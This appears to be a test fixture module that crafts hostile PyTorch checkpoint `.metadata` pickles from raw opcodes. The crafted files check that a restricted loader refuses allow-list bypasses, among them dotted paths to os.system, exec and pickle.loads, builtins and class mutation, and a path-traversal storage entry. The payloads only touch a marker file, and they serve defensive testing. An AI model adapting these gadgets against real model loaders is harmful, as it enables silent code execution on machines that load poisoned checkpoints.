"""Hostile DCP `.metadata` files, one per attack shape (issue 21): each runs `touch MARKER` (or writes it) when
unpickled by a permissive loader and then leaves the real metadata object, so a loader that lets it through
also loads the checkpoint normally (the attack is silent). Built from raw pickle opcodes.

A payload is inserted after the PROTO header and before the original body; it memoizes nothing, so the
original's memo indices stay valid, and it leaves nothing on the stack (POP after each call)."""
import hashlib
import json
import os
import pickle
import struct

FS_MODULE = "torch.distributed.checkpoint.filesystem"  # a module on the allow-list that imports os


def _unicode(s: str) -> bytes:
    data = s.encode()
    if len(data) < 256:
        return pickle.SHORT_BINUNICODE + bytes([len(data)]) + data
    return pickle.BINUNICODE + struct.pack("<I", len(data)) + data


def _stack_global(module: str, name: str) -> bytes:
    return _unicode(module) + _unicode(name) + pickle.STACK_GLOBAL


def _global(module: str, name: str) -> bytes:  # protocol 2 form
    return pickle.GLOBAL + f"{module}\n{name}\n".encode()


def _call(callable_ops: bytes, *args: bytes) -> bytes:
    """callable(*args), its result left on the stack. `args` are already-encoded single objects."""
    return callable_ops + pickle.MARK + b"".join(args) + pickle.TUPLE + pickle.REDUCE


def shell(marker: str) -> str:
    return f"touch {marker}"


def python_code(marker: str) -> str:
    return f"open({marker!r}, 'w').close()"


def payloads(marker: str) -> dict[str, tuple[bytes, str]]:
    """name -> (ops inserted before the real metadata, the name the refusal must give)."""
    sh, py = _unicode(shell(marker)), _unicode(python_code(marker))
    inner = pickle.dumps(_Shell(marker), protocol=2)
    return {
        # dotted names walked through an allowed module's globals (protocol 4)
        "dotted_os_system": (_call(_stack_global(FS_MODULE, "os.system"), sh) + pickle.POP, "os.system"),
        "dotted_os_popen": (_call(_stack_global(FS_MODULE, "os.popen"), sh) + pickle.POP, "os.popen"),
        "dotted_os_spawnv": (_call(_stack_global(FS_MODULE, "os.spawnv"), pickle.BININT1 + bytes([0]),
                                   _unicode("/bin/sh"), pickle.MARK + _unicode("sh") + _unicode("-c") + sh
                                   + pickle.LIST) + pickle.POP, "os.spawnv"),
        "dotted_builtins_get_exec": (_call(_call(_stack_global(FS_MODULE, "__builtins__.get"), _unicode("exec")), py)
                                     + pickle.POP, "__builtins__.get"),
        "dotted_torch_builtins_exec": (_call(_stack_global("torch", "builtins.exec"), py) + pickle.POP,
                                       "builtins.exec"),
        "dotted_pickle_loads": (_call(_stack_global("torch.serialization", "pickle.loads"),
                                      pickle.SHORT_BINBYTES + bytes([len(inner)]) + inner) + pickle.POP,
                                "pickle.loads"),
        # an undotted name reaching a module object, then protocol 2's BUILD setting an attribute on it
        "module_object_build": (_global(FS_MODULE, "os") + pickle.EMPTY_DICT + _unicode("sep") + _unicode("X")
                                + pickle.SETITEM + pickle.BUILD + pickle.POP, "os"),
        # BUILD on an allowed class (not an instance), slot-state form (setattr): rewrites the class for the
        # whole process (here Metadata.__init__ = None)
        "build_on_allowed_class": (_stack_global("torch.distributed.checkpoint.metadata", "Metadata")
                                   + pickle.NONE + pickle.EMPTY_DICT + _unicode("__init__") + pickle.NONE
                                   + pickle.SETITEM + pickle.TUPLE2 + pickle.BUILD + pickle.POP, "Metadata"),
        # SETITEM into the builtins namespace (a global `open` replaced by `exec` for everyone after)
        "setitem_into_builtins": (_global("builtins", "__dict__") + _unicode("open") + _global("builtins", "exec")
                                  + pickle.SETITEM + pickle.POP, "builtins.__dict__"),
    }


class _Shell:
    """A normal pickle of `os.system("touch MARKER")` (what `pickle.loads` would run)."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return os.system, (shell(self.marker),)


def inject(metadata_bytes: bytes, ops: bytes) -> bytes:
    """The original metadata pickle with `ops` run first."""
    assert metadata_bytes[:1] == pickle.PROTO
    return metadata_bytes[:2] + ops + metadata_bytes[2:]


def hostile_storage_path(metadata_path: str) -> bytes:
    """The real metadata with one storage entry pointing outside the checkpoint (an allowed class given
    hostile arguments): only allowed classes, refused by the structural check."""
    from nagmoe.checkpoint.safe_dcp import read_metadata_file

    metadata = read_metadata_file(metadata_path)
    key = next(iter(metadata.storage_data))
    info = metadata.storage_data[key]
    metadata.storage_data[key] = type(info)("../../../../etc/hostname", info.offset, info.length)
    return pickle.dumps(metadata, protocol=4)


def write_payload(checkpoint: str, name: str, marker: str) -> str:
    """Replace the checkpoint's .metadata by payload `name` and re-record its checksum (what anyone who can
    write the run dir can do); returns the name the refusal must give."""
    path = os.path.join(checkpoint, ".metadata")
    if name == "hostile_storage_path":
        data, refused = hostile_storage_path(path), "../../../../etc/hostname"
    else:
        ops, refused = payloads(marker)[name]
        with open(path, "rb") as f:
            data = inject(f.read(), ops)
    with open(path, "wb") as f:
        f.write(data)
    rewrite_manifest(checkpoint, ".metadata")
    return refused


def rewrite_manifest(checkpoint: str, rel: str) -> None:
    path = os.path.join(checkpoint, "manifest.json")
    with open(path) as f:
        manifest = json.load(f)
    with open(os.path.join(checkpoint, rel), "rb") as f:
        data = f.read()
    manifest["files"][rel] = {"sha256": hashlib.sha256(data).hexdigest(), "bytes": len(data)}
    with open(path, "w") as f:
        json.dump(manifest, f)


PAYLOADS = ("dotted_os_system", "dotted_os_popen", "dotted_os_spawnv", "dotted_builtins_get_exec",
            "dotted_torch_builtins_exec", "dotted_pickle_loads", "module_object_build", "build_on_allowed_class",
            "setitem_into_builtins", "hostile_storage_path")
